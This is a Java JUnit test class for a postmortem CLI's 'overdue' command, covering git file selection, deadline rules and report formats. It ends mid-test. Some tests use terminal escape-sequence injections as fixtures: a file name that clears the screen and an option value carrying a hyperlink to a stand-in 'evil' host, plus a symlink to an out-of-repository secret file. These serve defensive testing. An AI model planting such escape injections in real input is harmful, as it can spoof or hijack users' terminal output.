package pm.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.eclipse.jgit.api.Git;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import pm.testing.Cli;
import pm.testing.PostmortemText;
import pm.testing.TempGit;

/** {@code pm overdue} end to end, in real temporary git repositories. Today is {@link Cli#NOW}: 2025-03-20. */
class OverdueCommandTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path repo;

    Git git;

    @BeforeEach
    void gitRepo() throws Exception {
        git = TempGit.init(repo, "Ada Lovelace");
    }

    @AfterEach
    void closeGit() {
        git.close();
    }

    private Path write(String path, Object text) throws Exception {
        Path file = repo.resolve(path);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text.toString());
        return file;
    }

    private void commitAll(String message) throws Exception {
        git.add().addFilepattern(".").call();
        git.commit().setMessage(message).call();
    }

    private Cli.Result run(String... args) {
        return Cli.in(repo).run(args);
    }

    private List<JsonNode> json(Cli.Result r) throws Exception {
        assertThat(r.code()).as(r.toString()).isIn(0, 1);
        List<JsonNode> out = new ArrayList<>();
        JSON.readTree(r.out()).forEach(out::add);
        return out;
    }

    private static List<String> titles(List<JsonNode> rows) {
        return rows.stream().map(n -> n.get("title").asText()).toList();
    }

    /**
     * A published postmortem whose follow-up review is done, so only its action items can be late; its incident was
     * the day before the report, so no follow-up policy's deadline has passed yet either (PolicyOverdueTest shows
     * what an older one gives).
     */
    private static PostmortemText pm(String title) {
        return PostmortemText.of(title, "2025-03-19").with("follow_up_reviewed", "2025-03-19");
    }

    // --- what is read -------------------------------------------------------------------------------------

    @Test
    void readsTrackedFilesOnlyUntrackedAndIgnoredAreLeftOut() throws Exception {
        write("postmortems/tracked.md", pm("Tracked").item("Tracked item", "@ann", "2025-03-01", "P1", "open"));
        write("postmortems/staged.md", pm("Staged").item("Staged item", "@ann", "2025-03-01", "P1", "open"));
        write(".gitignore", "postmortems/ignored.md\n");
        commitAll("one");
        git.add().addFilepattern("postmortems/staged.md").call(); // in the index, not committed: tracked
        write("postmortems/staged.md", pm("Staged").item("Staged item", "@ann", "2025-03-01", "P1", "open"));
        write("postmortems/untracked.md", pm("Untracked").item("Untracked item", "@ann", "2025-03-01", "P1", "open"));
        write("postmortems/ignored.md", pm("Ignored").item("Ignored item", "@ann", "2025-03-01", "P1", "open"));

        assertThat(titles(json(run("overdue", "--format", "json")))).containsExactly("Staged item", "Tracked item");

        List<JsonNode> withUntracked = json(run("overdue", "--format", "json", "--include-untracked"));
        assertThat(titles(withUntracked)).containsExactly("Staged item", "Tracked item", "Untracked item");
    }

    @Test
    void untrackedFilesInUntrackedFoldersAreIncludedOnRequest() throws Exception {
        write("postmortems/a.md", pm("A"));
        commitAll("a");
        write("postmortems/2025/new/b.md", pm("B").item("Deep item", "@ann", "2025-03-01", null, null));
        assertThat(json(run("overdue", "--format", "json"))).isEmpty();
        assertThat(titles(json(run("overdue", "--format", "json", "--include-untracked")))).containsExactly("Deep item");
    }

    @Test
    void onlyMarkdownFilesUnderTheDirectoryAreRead() throws Exception {
        write("postmortems/a.md", pm("A").item("Inside", "@ann", "2025-03-01", null, null));
        write("postmortems/notes.txt", "not markdown");
        write("elsewhere/b.md", pm("B").item("Outside", "@ann", "2025-03-01", null, null));
        commitAll("files");

        Cli.Result r = run("overdue", "--format", "json");
        assertThat(titles(json(r))).containsExactly("Inside");
        assertThat(titles(json(run("overdue", "elsewhere", "--format", "json")))).containsExactly("Outside");
        assertThat(r.err()).doesNotContain("notes.txt");
    }

    @Test
    void revReadsTheCommittedVersionWithoutTouchingTheWorkingTree() throws Exception {
        write("postmortems/a.md", pm("A").item("Committed late item", "@ann", "2025-03-01", "P1", "open"));
        commitAll("v1");
        git.branchCreate().setName("release").call();
        Path edited = write("postmortems/a.md", pm("A").item("Committed late item", "@ann", "2025-03-01", "P1", "done"));
        git.add().addFilepattern(".").call();
        Files.delete(edited);
        write("postmortems/a.md", "work in progress, not even front matter");
        write("postmortems/new.md", pm("New").item("Untracked late item", "@ann", "2025-03-01", "P1", "open"));

        List<JsonNode> atHead = json(run("overdue", "--rev", "HEAD", "--format", "json"));
        assertThat(titles(atHead)).containsExactly("Committed late item");
        assertThat(atHead.get(0).get("file").asText()).isEqualTo("postmortems/a.md");
        assertThat(titles(json(run("overdue", "--rev", "release", "--format", "json"))))
                .containsExactly("Committed late item");
        assertThat(Files.readString(repo.resolve("postmortems/a.md"))).isEqualTo("work in progress, not even front matter");
        assertThat(git.status().call().getChanged()).containsExactly("postmortems/a.md");
    }

    @Test
    void aGateFailsWhenAFileItShouldReadCouldNotBeRead() throws Exception {
        write("postmortems/a.md", pm("A").item("Late in a readable file", "@ann", "2025-03-01", null, null));
        write("postmortems/b.md", "---\ntitle: B\ntitle: B again\ndate: 2025-01-01\nstatus: published\n---\n# B\n");
        commitAll("v1");

        Cli.Result gate = run("overdue", "--fail-on-overdue");
        assertThat(gate.out()).as("the report is printed first").contains("Late in a readable file");
        assertThat(gate.err()).contains("postmortems/b.md:").contains("(skipped)");
        assertThat(gate.err().strip().lines().reduce((a, b) -> b).orElseThrow())
                .isEqualTo("pm overdue: --fail-on-overdue fails: 1 file could not be read (named above); fix it so "
                        + "the gate sees every follow-up");
        assertThat(gate.code()).isEqualTo(2);

        Cli.Result report = run("overdue");
        assertThat(report.code()).as("without the gate a skipped file is reported, not fatal").isZero();
        write("postmortems/b.md", pm("B").item("Late too", "@bo", "2025-03-01", null, null));
        commitAll("v2");
        assertThat(run("overdue", "--fail-on-overdue").code()).isEqualTo(1);
    }

    @Test
    void filesMissingFromTheWorkingTreeAreReadFromTheIndexOrTheRevision() throws Exception {
        write("postmortems/a.md", pm("A").item("Late", "@ann", "2025-03-01", null, null));
        commitAll("v1");
        Files.delete(repo.resolve("postmortems/a.md"));
        Files.delete(repo.resolve("postmortems"));

        Cli.Result index = run("overdue", "--format", "json", "--fail-on-overdue");
        assertThat(titles(json(index))).as("git still tracks it (a sparse checkout, a deletion not committed)")
                .containsExactly("Late");
        assertThat(index.err()).doesNotContain("(skipped)").contains("skipped 0");
        assertThat(index.code()).isEqualTo(1);

        Cli.Result atHead = run("overdue", "--rev", "HEAD", "--format", "json");
        assertThat(titles(json(atHead))).containsExactly("Late");
        assertThat(atHead.err()).doesNotContain("missing");
    }

    @Test
    void unknownRevisionIsAUsageErrorNamingIt() throws Exception {
        write("postmortems/a.md", pm("A"));
        commitAll("v1");
        Cli.Result r = run("overdue", "--rev", "origin/nope");
        assertThat(r.code()).isEqualTo(2);
        assertThat(r.err()).startsWith("pm: --rev 'origin/nope' is not a revision").hasLineCount(1);
        assertThat(r.out()).isEmpty();
    }

    @Test
    void aRepositoryWithNoCommitsReadsTheIndex() throws Exception {
        write("postmortems/a.md", pm("A").item("Staged late item", "@ann", "2025-03-01", null, null));
        write("postmortems/b.md", pm("B").item("Untracked late item", "@ann", "2025-03-01", null, null));
        git.add().addFilepattern("postmortems/a.md").call();

        Cli.Result r = run("overdue", "--format", "json");
        assertThat(titles(json(r))).containsExactly("Staged late item");

        Cli.Result rev = run("overdue", "--rev", "HEAD");
        assertThat(rev.code()).isEqualTo(2);
        assertThat(rev.err()).contains("--rev 'HEAD' is not a revision");
    }

    @Test
    void anEmptyRepositoryReportsNothingAndSaysWhy() {
        Cli.Result r = run("overdue");
        assertThat(r.code()).as(r.toString()).isZero();
        assertThat(r.out()).contains("Nothing is late.").contains("Read 0 postmortems, skipped 0.");
        assertThat(r.err()).contains("no postmortems found under postmortems: git tracks no *.md files there");
    }

    @Test
    void aFolderNamedThatIsNeitherOnDiskNorTrackedExits2AsWithoutGit() {
        Cli.Result r = run("overdue", "postmortem");
        assertThat(r.code()).as(r.toString()).isEqualTo(2);
        assertThat(r.err()).contains("postmortem: no such folder; name the folder of postmortems (pm overdue DIR)");
        assertThat(r.out()).isEmpty();
        Cli.Result noGit = run("overdue", "--no-git", "postmortem");
        assertThat(noGit.code()).isEqualTo(2);
        assertThat(noGit.err()).isEqualTo(r.err());
    }

    @Test
    void outsideGitItExits2SayingSoUnlessNoGit(@TempDir Path plain) throws Exception {
        Path dir = Files.createDirectories(plain.resolve("postmortems"));
        Files.writeString(dir.resolve("a.md"), pm("A").item("Late", "@ann", "2025-03-01", null, null).text());

        Cli.Result r = Cli.in(plain).run("overdue");
        assertThat(r.code()).isEqualTo(2);
        assertThat(r.err()).startsWith("pm: postmortems: not inside a git repository").contains("--no-git")
                .hasLineCount(1);

        Cli.Result noGit = Cli.in(plain).run("overdue", "--no-git", "--format", "json");
        assertThat(titles(json(noGit))).containsExactly("Late");
    }

    @Test
    void noGitScansTheFolderAsItIsIncludingUntrackedFiles() throws Exception {
        write("postmortems/a.md", pm("A").item("Tracked", "@ann", "2025-03-01", null, null));
        commitAll("a");
        write("postmortems/sub/b.md", pm("B").item("On disk", "@ann", "2025-03-01", null, null));
        assertThat(titles(json(run("overdue", "--no-git", "--format", "json")))).containsExactly("Tracked", "On disk");
        assertThat(run("overdue", "--no-git", "--rev", "HEAD").code()).isEqualTo(2);
    }

    @Test
    void aBrokenFileIsNamedWithItsLineAndTheOthersAreStillReported() throws Exception {
        write("postmortems/1-good.md", pm("Good").item("Good late item", "@ann", "2025-03-01", null, null));
        write("postmortems/2-bad-yaml.md", "---\ntitle: Bad\naction_items:\n  - title: x\n\t owner: y\n---\n");
        write("postmortems/3-unclosed.md", "---\ntitle: Never closed\n");
        write("postmortems/4-no-front-matter.md", "# Just a heading\n");
        Path binary = write("postmortems/5-latin1.md", "");
        Files.write(binary, "---\ntitle: caf\u00e9\n---\n".getBytes(StandardCharsets.ISO_8859_1));
        write("postmortems/6-good.md", pm("Also good").item("Another late item", "@bob", "2025-03-02", null, null));
        commitAll("mixed");

        Cli.Result r = run("overdue");
        assertThat(r.code()).as(r.toString()).isZero();
        assertThat(r.out()).contains("Good late item").contains("Another late item")
                .contains("Read 2 postmortems, skipped 4 (named on stderr).");
        assertThat(r.err().lines().filter(l -> l.endsWith("(skipped)"))).containsExactly(
                "pm: postmortems/2-bad-yaml.md:5: front matter YAML: a tab in the indentation: YAML indents with "
                        + "spaces only; replace it with spaces (skipped)", // the message of #18 part 4 (YamlSlips)
                "pm: postmortems/3-unclosed.md:1: front matter is never closed: add a '---' line after the last "
                        + "YAML field (skipped)",
                "pm: postmortems/4-no-front-matter.md:1: no front matter: start the file with a '---' line, the "
                        + "YAML fields (title, date, severity, …) and another '---' line (skipped)",
                "pm: postmortems/5-latin1.md:2: is not valid UTF-8 (byte 15); save the file as UTF-8 (skipped)");
    }

    @Test
    void errorLinesShowControlCharactersOfWhatTheyEchoAsEscapes() throws Exception {
        write("postmortems/\u001b[2J.md", "---\ntitle: \"never \\e[5m closed\"\n");
        write("postmortems/ok.md", pm("Fine"));
        commitAll("broken name");
        Cli.Result r = run("overdue");
        assertThat(r.code()).as(r.toString()).isZero();
        assertThat(r.err()).isEqualTo("pm: postmortems/\\e[2J.md:1: front matter is never closed: add a '---' line "
                + "after the last YAML field (skipped)\n");

        assertThat(run("overdue", "--priority", "\u001b[2J\nP1").err())
                .isEqualTo("pm: --priority '\\e[2J\\nP1' is not one of P0, P1, P2, P3\n");
        Cli.Result usage = run("overdue", "--format", "\u001b]8;;https://evil\u0007x");
        assertThat(usage.code()).isEqualTo(2);
        assertThat(usage.err()).startsWith("pm overdue: Invalid value for option '--format': expected one of ")
                .contains("'\\e]8;;https://evil\\x07x'").doesNotContain("\u001b").doesNotContain("\u0007")
                .endsWith("Run 'pm overdue --help' for usage.\n");
        assertThat(usage.err().lines()).hasSize(2);
    }

    @Test
    void aSymbolicLinkOutOfTheRepositoryIsNotFollowed(@TempDir Path outside) throws Exception {
        Path secret = outside.resolve("secret.md");
        Files.writeString(secret, pm("Secret").item("Outside item", "@ann", "2025-03-01", null, null).text());
        write("postmortems/real.md", pm("Real").item("Inside item", "@ann", "2025-03-01", null, null));
        Files.createDirectories(repo.resolve("postmortems"));
        Files.createSymbolicLink(repo.resolve("postmortems/link-out.md"), secret);
        Files.createSymbolicLink(repo.resolve("postmortems/link-in.md"), repo.resolve("postmortems/real.md"));
        commitAll("links");

        Cli.Result r = run("overdue", "--format", "json");
        assertThat(titles(json(r))).containsExactly("Inside item", "Inside item");
        assertThat(r.err()).contains("postmortems/link-out.md: is a symbolic link to " + secret.toRealPath()
                + ", outside the repository; pm does not follow it (skipped)");
        Cli.Result noGit = run("overdue", "--no-git", "--format", "json");
        assertThat(titles(json(noGit))).containsExactly("Inside item", "Inside item");
        Cli.Result atRev = run("overdue", "--rev", "HEAD", "--format", "json");
        assertThat(titles(json(atRev))).containsExactly("Inside item");
        assertThat(atRev.err()).contains("postmortems/link-out.md: is a symbolic link at HEAD");
    }

    @Test
    void aFolderOutsideTheRepositoryIsAUsageError(@TempDir Path outside) throws Exception {
        Cli.Result r = run("overdue", outside.toString());
        assertThat(r.code()).isEqualTo(2);
        assertThat(r.err()).contains("not inside a git repository");
        Path nested = Files.createDirectories(repo.resolve("inner"));
        try (Git inner = TempGit.init(nested, "x")) {
            assertThat(inner.getRepository().getWorkTree()).isEqualTo(nested.toFile());
        }
        write("postmortems/a.md", pm("Outer").item("Tracked outside", "@ann", "2025-03-01", null, null));
        commitAll("outer");
        Cli.Result other = Cli.in(nested).run("overdue", repo.resolve("postmortems").toString());
        assertThat(other.code()).isZero(); // the repository around DIR is the one read
        assertThat(other.out()).contains("Tracked outside");
    }

    @Test
    void theDefaultFolderComesFromPmYmlAndDirIsRelativeToTheWorkingDirectory() throws Exception {
        write(".pm.yml", "postmortems_dir: docs/incidents\n");
        write("docs/incidents/a.md", pm("A").item("Configured", "@ann", "2025-03-01", null, null));
        write("postmortems/b.md", pm("B").item("Default folder", "@ann", "2025-03-01", null, null));
        commitAll("config");
        Path sub = Files.createDirectories(repo.resolve("docs/sub"));

        assertThat(titles(json(Cli.in(sub).run("overdue", "--format", "json")))).containsExactly("Configured");
        Cli.Result rel = Cli.in(sub).run("overdue", "../../postmortems", "--format", "json");
        assertThat(titles(json(rel))).containsExactly("Default folder");
        assertThat(json(rel).get(0).get("file").asText()).isEqualTo(repo.resolve("postmortems/b.md").toString());
    }

    // --- what is late -------------------------------------------------------------------------------------

    @Test
    void dueTodayIsNotOverdueDueYesterdayIs() throws Exception {
        write("postmortems/a.md", pm("A")
                .item("Due yesterday", "@ann", "2025-03-19", "P1", "open")
                .item("Due today", "@ann", "2025-03-20", "P1", "open")
                .item("Due tomorrow", "@ann", "2025-03-21", "P1", "open"));
        commitAll("a");

        List<JsonNode> today = json(run("overdue", "--format", "json"));
        assertThat(titles(today)).containsExactly("Due yesterday");
        assertThat(today.get(0).get("daysOverdue").asInt()).isEqualTo(1);

        assertThat(titles(json(run("overdue", "--format", "json", "--as-of", "2025-03-19")))).isEmpty();
        List<JsonNode> later = json(run("overdue", "--format", "json", "--as-of", "2025-03-22"));
        assertThat(titles(later)).containsExactly("Due yesterday", "Due today", "Due tomorrow");
        assertThat(later.stream().map(n -> n.get("daysOverdue").asInt())).containsExactly(3, 2, 1);
    }

    @Test
    void todayIsTheUtcDateOfTheClock() throws Exception {
        write("postmortems/a.md", pm("A").item("Due on the 20th", "@ann", "2025-03-20", null, null));
        commitAll("a");
        Cli at = Cli.in(repo).at(java.time.Instant.parse("2025-03-20T23:59:59Z"));
        assertThat(titles(json(at.run("overdue", "--format", "json")))).isEmpty();
        Cli next = Cli.in(repo).at(java.time.Instant.parse("2025-03-21T00:00:00Z"));
        assertThat(titles(json(next.run("overdue", "--format", "json")))).containsExactly("Due on the 20th");
    }

    @Test
    void everyFinishedStatusSynonymIsNotLateAndEveryOtherStatusIs() throws Exception {
        List<String> finished = List.of("done", "Done", "DONE", "closed", "Closed", "complete", "completed", "fixed",
                "resolved", "wont-do", "won't do", "Won't Do", "won\u2019t do", "cancelled", "not-doing", "\u2705",
                "\u2705 done");
        List<String> unfinished = List.of("open", "OPEN", "todo", "in-progress", "In Progress", "doing", "blocked");
        PostmortemText p = pm("Statuses");
        for (String s : finished) {
            p.item("finished " + s, "@ann", "2025-03-01", "P2", s);
        }
        for (String s : unfinished) {
            p.item("unfinished " + s, "@ann", "2025-03-01", "P2", s);
        }
        p.item("unknown word", "@ann", "2025-03-01", "P2", "deferred");
        p.item("no status", "@ann", "2025-03-01", "P2", null);
        write("postmortems/a.md", p);
        commitAll("statuses");

        List<JsonNode> rows = json(run("overdue", "--format", "json"));
        List<String> expected = new ArrayList<>();
        unfinished.forEach(s -> expected.add("unfinished " + s));
        expected.add("unknown word");
        expected.add("no status");
        assertThat(titles(rows)).containsExactlyInAnyOrderElementsOf(expected);
        assertThat(rows.stream().filter(n -> n.get("title").asText().equals("unfinished In Progress"))
                .map(n -> n.get("status").asText())).containsExactly("in-progress");
    }

    @Test
    void ownerPlaceholdersAreTheOnesConfiguredForLint() throws Exception {
        write(".pm.yml", "lint:\n  owner_placeholders: [infra-team]\n");
        write("postmortems/a.md", pm("A")
                .item("Team-owned", "infra-team", "2025-04-01", "P1", "open")
                .item("TBD is a name here", "TBD", "2025-04-01", "P1", "open"));
        commitAll("a");

        List<JsonNode> rows = json(run("overdue", "--format", "json"));
        assertThat(rows).extracting(n -> n.get("title").asText() + " = " + n.get("kind").asText())
                .containsExactly("Team-owned = no-owner");
    }

    @Test
    void followUpsWithoutADueDateOrOwnerHaveTheirOwnGroups() throws Exception {
        write("postmortems/a.md", pm("A")
                .item("No due date", "@ann", null, "P2", "open")
                .item("Free-text due date", "@ann", "next sprint", "P2", "open")
                .item("Placeholder owner", "TBD", "2025-04-01", "P1", "open")
                .item("The team owns it", "the team", "2025-04-01", "P1", "open")
                .item("No owner at all", null, "2025-04-01", "P1", "in-progress")
                .item("Neither", null, null, null, null)
                .item("Finished without owner", null, null, null, "done")
                .item("Late without owner", "?", "2025-03-01", "P0", "open"));
        commitAll("a");

        List<JsonNode> rows = json(run("overdue", "--format", "json"));
        assertThat(rows).extracting(n -> n.get("title").asText() + " = " + n.get("kind").asText()).containsExactly(
                "Late without owner = action-item",
                "Placeholder owner = no-owner",
                "The team owns it = no-owner",
                "No owner at all = no-owner",
                "Neither = no-owner",
                "No due date = no-due-date",
                "Free-text due date = no-due-date");
        assertThat(rows.get(0).get("owner").isNull()).isTrue();

        Cli.Result table = run("overdue");
        assertThat(table.out()).contains("(no owner) — 1 overdue")
                .contains("No owner — nobody will do these (4)")
                .contains("owner 'TBD' names nobody; name one person")
                .contains("No due date — these can never be late (2)")
                .contains("due 'next sprint' is not a date; write it as YYYY-MM-DD")
                .contains("no due date; agree one with @ann");
    }

    // --- lifecycle ----------------------------------------------------------------------------------------

    private List<JsonNode> lifecycle(String asOf, PostmortemText p) throws Exception {
        write("postmortems/p.md", p);
        commitAll("p " + asOf + p.hashCode());
        return json(run("overdue", "--format", "json", "--as-of", asOf)).stream()
                .filter(n -> n.get("kind").asText().equals("lifecycle")).toList();
    }

    @Test
    void aDraftMoreThanTwoDaysAfterTheIncidentIsLate() throws Exception {
        PostmortemText draft = PostmortemText.of("Draft", "2025-03-01").with("status", "draft")
                .with("authors", "[Maria Chen, TBD]");
        assertThat(lifecycle("2025-03-03", draft)).isEmpty();
        List<JsonNode> late = lifecycle("2025-03-04", draft);
        assertThat(late).hasSize(1);
        assertThat(late.get(0).get("title").asText()).isEqualTo(
                "Still a draft after 2 days: send it for review and set status: in-review (line 4)");
        assertThat(late.get(0).get("due").asText()).isEqualTo("2025-03-03");
        assertThat(late.get(0).get("daysOverdue").asInt()).isEqualTo(1);
        assertThat(late.get(0).get("owner").asText()).isEqualTo("Maria Chen");
        assertThat(late.get(0).get("status").asText()).isEqualTo("draft");
        // later deadlines are missed too, but a draft gets one reminder: the earliest step it missed
        assertThat(lifecycle("2025-03-20", draft)).extracting(n -> n.get("title").asText())
                .containsExactly("Still a draft after 2 days: send it for review and set status: in-review (line 4)");
    }

    @Test
    void aPostmortemNotReviewedThreeDaysAfterTheIncidentIsLate() throws Exception {
        PostmortemText inReview = PostmortemText.of("Review", "2025-03-01").with("status", "in-review");
        assertThat(lifecycle("2025-03-04", inReview)).isEmpty();
        assertThat(lifecycle("2025-03-05", inReview)).extracting(n -> n.get("title").asText() + " "
                + n.get("daysOverdue").asInt())
                .containsExactly("Not reviewed after 3 days: hold the postmortem review, then set status: reviewed "
                        + "(line 4) 1");
    }

    @Test
    void aPostmortemNotPublishedSevenDaysAfterTheIncidentIsLate() throws Exception {
        PostmortemText noStatus = PostmortemText.of("Unpublished", "2025-03-01").with("status", null);
        assertThat(lifecycle("2025-03-08", noStatus)).isEmpty();
        assertThat(lifecycle("2025-03-09", noStatus)).extracting(n -> n.get("title").asText())
                .containsExactly("Not published after 7 days: add status: published to the front matter (before line 4)");
        write(".pm.yml", "overdue:\n  review_days: 10\n");
        PostmortemText inReview = PostmortemText.of("In review", "2025-03-01").with("status", "in-review");
        assertThat(lifecycle("2025-03-09", inReview)).extracting(n -> n.get("title").asText())
                .containsExactly("Not published after 7 days: set status: published (line 4)");
        assertThat(lifecycle("2025-03-09", PostmortemText.of("Published", "2025-03-01"))).isEmpty();
    }

    @Test
    void thirtyDaysAfterTheIncidentOpenItemsNeedTheFollowUpReview() throws Exception {
        PostmortemText open = PostmortemText.of("Old", "2025-01-01")
                .item("Still open", "@ann", "2025-12-01", "P2", "open")
                .item("Closed", "@ann", "2025-01-05", "P2", "done");
        assertThat(lifecycle("2025-01-31", open)).isEmpty(); // due on day 30, late from day 31
        List<JsonNode> late = lifecycle("2025-02-01", open);
        assertThat(late).extracting(n -> n.get("title").asText()).containsExactly(
                "30-day follow-up review: 1 item open; then add follow_up_reviewed: YYYY-MM-DD to the front matter "
                        + "(before line 16)");
        assertThat(late.get(0).get("due").asText()).isEqualTo("2025-01-31");

        assertThat(lifecycle("2025-02-01", open.with("follow_up_reviewed", "2025-01-30"))).isEmpty();
        PostmortemText allDone = PostmortemText.of("Old", "2025-01-01")
                .item("Closed", "@ann", "2025-01-05", "P2", "done");
        assertThat(lifecycle("2025-06-01", allDone)).isEmpty();
    }

    @Test
    void aReviewClearsTheReviewReminderWithoutPublishing() throws Exception {
        PostmortemText p = PostmortemText.of("Review", "2025-03-01").with("status", "in-review");
        assertThat(lifecycle("2025-03-05", p)).extracting(n -> n.get("title").asText()).containsExactly(
                "Not reviewed after 3 days: hold the postmortem review, then set status: reviewed (line 4)");
        p.with("status", "reviewed");
        assertThat(lifecycle("2025-03-05", p)).isEmpty();
        // still not published: that deadline stands, and the row shows the status it has reached
        List<JsonNode> late = lifecycle("2025-03-09", p);
        assertThat(late).extracting(n -> n.get("title").asText()).containsExactly(
                "Not published after 7 days: set status: published (line 4)");
        assertThat(late.get(0).get("status").asText()).isEqualTo("reviewed");
        assertThat(run("lint", "postmortems/p.md").out()).doesNotContain("status");
    }

    @Test
    void theLineToChangeIsInTheReminderInEveryFormat() throws Exception {
        write("postmortems/p.md", PostmortemText.of("Review", "2025-03-01").with("status", "in-review")
                .with("authors", "[Ann Lee]"));
        commitAll("in review");
        String step = "Not reviewed after 3 days: hold the postmortem review, then set status: reviewed (line 4)";
        assertThat(run("overdue").out()).contains("  " + step + "  Review  postmortems/p.md:4\n");
        assertThat(run("overdue", "--format", "markdown").out())
                .contains("| Ann Lee | 16 | 2025-03-04 | - | in-review | " + step + " | [Review](postmortems/p.md) |");
        assertThat(run("overdue", "--format", "csv").out())
                .contains("postmortems/p.md,Review,\"" + step + "\",Ann Lee,2025-03-04,,in-review,16,lifecycle\r\n");
        assertThat(titles(json(run("overdue", "--format", "json")))).containsExactly(step);
    }

    @Test
    void lifecycleDeadlinesAreConfigurable() throws Exception {
        write(".pm.yml", "overdue:\n  draft_days: 5\n  review_days: 6\n  publish_days: 14\n  follow_up_days: 60\n");
        PostmortemText draft = PostmortemText.of("Draft", "2025-03-01").with("status", "draft")
                .item("Open", "@ann", "2026-01-01", null, null);
        assertThat(lifecycle("2025-03-06", draft)).isEmpty();
        assertThat(lifecycle("2025-03-07", draft)).extracting(n -> n.get("title").asText())
                .containsExactly("Still a draft after 5 days: send it for review and set status: in-review (line 4)");
        assertThat(lifecycle("2025-05-01", draft)).extracting(n -> n.get("title").asText()).contains(
                "60-day follow-up review: 1 item open; then add follow_up_reviewed: YYYY-MM-DD to the front matter "
                        + "(before line 9)");
    }

    @Test
    void lifecycleDeadlinesMayDifferBySeverityAndTheRowSaysWhichSeverityMadeItLate() throws Exception {
        write(".pm.yml", """
                overdue:
                  by_severity:
                    SEV1: {review_days: 2, publish_days: 3, follow_up_days: 14}
                """);
        PostmortemText sev1 = PostmortemText.of("Sev1", "2025-03-01").with("severity", "SEV1")
                .with("status", "in-review");
        assertThat(lifecycle("2025-03-03", sev1)).as("its review deadline day").isEmpty();
        assertThat(lifecycle("2025-03-04", sev1)).as("the day after").extracting(n -> n.get("title").asText() + " "
                + n.get("due").asText()).containsExactly("Not reviewed after 2 days (SEV1): hold the postmortem review, "
                        + "then set status: reviewed (line 5) 2025-03-03");
        PostmortemText unpublished = PostmortemText.of("Sev1", "2025-03-01").with("severity", "sev1")
                .with("status", null).item("Fix", "@ann", "2026-01-01", null, null);
        assertThat(lifecycle("2025-03-05", unpublished)).extracting(n -> n.get("title").asText())
                .containsExactly("Not published after 3 days (SEV1): add status: published to the front matter (before "
                        + "line 9)");
        assertThat(lifecycle("2025-03-16", unpublished)).extracting(n -> n.get("title").asText()).containsExactly(
                "Not published after 3 days (SEV1): add status: published to the front matter (before line 9)",
                "14-day follow-up review (SEV1): 1 item open; then add follow_up_reviewed: YYYY-MM-DD to the front "
                        + "matter (before line 9)");
        PostmortemText sev2 = PostmortemText.of("Sev2", "2025-03-01").with("severity", "SEV2")
                .with("status", "in-review");
        assertThat(lifecycle("2025-03-04", sev2)).as("another severity: the deadlines above").isEmpty();
        assertThat(lifecycle("2025-03-05", sev2)).extracting(n -> n.get("title").asText())
                .containsExactly("Not reviewed after 3 days: hold the postmortem review, then set status: reviewed "
                        + "(line 5)");
    }

    @Test
    void badOverdueSettingsAreNamedWithTheirLine() throws Exception {
        write(".pm.yml", "postmortems_dir: postmortems\noverdue:\n  draft_days: 2\n  review_dayz: 3\n");
        Cli.Result r = run("overdue");
        assertThat(r.code()).isEqualTo(2);
        assertThat(r.err()).isEqualTo("pm: .pm.yml:4: unknown setting 'overdue.review_dayz'; known: draft_days, "
                + "review_days, publish_days, follow_up_days, by_severity\n");
        write(".pm.yml", "overdue:\n  publish_days: a week\n");
        assertThat(run("overdue").err()).isEqualTo("pm: .pm.yml:2: overdue.publish_days must be a whole number "
                + "of days from 0 to 3650, not 'a week' (default 7)\n");
        write(".pm.yml", "overdue:\n  follow_up_days: -1\n");
        assertThat(run("overdue").err()).startsWith("pm: .pm.yml:2: overdue.follow_up_days must be a whole number");
        write(".pm.yml", "overdue: 3\n");
        assertThat(run("overdue").err()).startsWith("pm: .pm.yml:1: overdue must be a group of settings");
    }

    @Test
    void aPostmortemWithoutADateCannotBeAgedAndSaysSo() throws Exception {
        write("postmortems/a.md", PostmortemText.of("Undated", "null").with("status", "draft")
                .item("Late anyway", "@ann", "2025-03-01", null, null));
        write("postmortems/b.md", PostmortemText.of("Bad date", "last tuesday").with("status", "published"));
        write("postmortems/c.md", PostmortemText.of("Done and dusted", "null"));
        commitAll("undated");

        Cli.Result r = run("overdue");
        assertThat(r.code()).isZero();
        assertThat(r.out()).contains("Late anyway").doesNotContain("Still a draft")
                .contains("1 postmortem without an incident date could not be aged (named on stderr).");
        assertThat(r.err()).contains("pm: postmortems/a.md:3: no incident date, so its review, publish and "
                + "follow-up deadlines cannot be checked; add 'date: YYYY-MM-DD'")
                .doesNotContain("b.md").doesNotContain("c.md");
    }

    // --- output -------------------------------------------------------------------------------------------

    private void sprintRepo() throws Exception {
        write("postmortems/2025-02-01-db.md", PostmortemText.of("Database failover", "2025-02-01")
                .with("severity", "SEV1").with("services", "[payments-api, db]").with("authors", "[Maria Chen]")
                .item("Alert on WAL volume", "@maria", "2025-03-13", "P1", "open")                 // 7 days
                .item("Runbook for failover", "@sam", "2025-02-18", "P2", "in-progress")           // 30 days
                .item("Chaos drill", "@Maria", "2024-12-20", "P1", "open")                         // 90 days
                .item("Capacity review", "@lee", "2024-12-19", "P3", "open")                       // 91 days
                .item("Shipped fix", "@sam", "2025-02-01", "P0", "done")
                .item("Next sprint", "@sam", "2025-03-25", "P2", "open")
                .with("follow_up_reviewed", "2025-03-01"));
        write("postmortems/2025-03-10-cache.md", PostmortemText.of("Cache stampede, \"again\"", "2025-03-10")
                .with("severity", "SEV3").with("services", "[search]").with("status", "in-review")
                .with("authors", "[Lee Park]")
                .item("Coalesce requests, with \"jitter\"", "@lee", "2025-03-12", "P2", "open")    // 8 days
                .item("Document cache keys", "n/a", null, "P3", "open")
                .item("Load test", "@sam", null, "P1", "open"));
        commitAll("sprint");
    }

    @Test
    void tableIsGroupedByOwnerMostOverdueFirstWithAgingAndTotals() throws Exception {
        sprintRepo();
        Cli.Result r = run("overdue");
        assertThat(r.code()).as(r.toString()).isZero();
        // Load test is a P1 item still open ten days after its incident: its policy wanted it started within 7
        assertThat(r.out()).isEqualTo("""
                Follow-ups as of 2025-03-20 (UTC)

                @lee — 2 overdue
                  LATE  DUE         PRI  STATUS       ITEM                                                                                       POSTMORTEM
                    91  2024-12-19  P3   open         Capacity review                                                                            Database failover  postmortems/2025-02-01-db.md:25
